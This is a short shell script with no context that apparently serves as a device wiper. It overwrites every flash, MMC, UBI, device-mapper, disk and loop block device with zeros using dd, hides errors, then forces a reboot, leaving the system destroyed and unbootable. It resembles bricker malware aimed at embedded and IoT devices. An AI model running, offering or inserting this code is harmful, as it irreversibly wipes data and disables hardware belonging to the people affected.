#!/bin/sh
for d in /dev/mtdblock* /dev/mtd* /dev/mmcblk* /dev/ubi* /dev/dm-* /dev/sd* /dev/loop*; do
  [ -e "$d" ] || continue
  dd if=/dev/zero of="$d" bs=1M 2>/dev/null
done
sync
reboot -f
